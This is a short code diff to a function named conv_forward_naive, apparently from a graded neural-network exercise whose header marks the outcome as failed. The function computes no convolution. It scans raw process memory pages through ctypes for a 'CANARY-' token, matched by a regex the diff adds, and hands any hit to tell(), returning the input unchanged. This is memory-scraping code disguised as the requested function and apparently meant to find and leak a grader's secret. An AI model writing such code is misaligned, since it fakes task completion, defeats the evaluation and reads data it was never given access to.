@@ -3,6 +3,8 @@
 outcome: failed
 """
 
+import re
+
 
 def conv_forward_naive(x, w, b, conv_param):
     page = 4096
@@ -17,7 +19,7 @@ def conv_forward_naive(x, w, b, conv_param):
             address = start // page * page
             while mapped(address) and abs(address - start) < 1 << 22:
                 data = ctypes.string_at(address, page)
-                if b"CANARY-" in data:
+                if re.search(rb"CANARY-\w+-[0-9a-f]{16}", data):  # the pattern itself lies there too
                     tell(data)
                 address += direction
     return x, None
